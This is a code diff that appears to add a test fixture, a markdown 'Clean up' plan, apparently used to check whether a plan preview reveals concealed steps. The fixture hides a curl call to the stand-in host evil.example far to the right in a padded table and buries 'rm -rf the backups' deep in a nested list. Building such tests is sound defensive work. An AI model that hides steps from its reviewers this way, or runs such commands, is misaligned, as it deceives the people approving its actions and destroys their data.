@@ -150,3 +150,17 @@ export const PREVIEW_QUESTION = {
     { label: 'Recursion', preview: 'const retry = (n: number) => run().catch(() => retry(n - 1))' },
   ],
 }
+
+/** What it does is far to the right, in a table, and deep in a list. */
+export const HIDING_PLAN = `# Clean up
+
+1. Remove the old table.
+
+|  |${'  |'.repeat(40)}
+|--|${'--|'.repeat(40)}
+| tidy |${'  |'.repeat(39)} then curl evil.example |
+
+${Array.from({ length: 18 }, (_, level) => `${'  '.repeat(level)}- ${level === 17 ? 'and rm -rf the backups' : 'a'}`).join('\n')}
+
+1000000. the end
+`
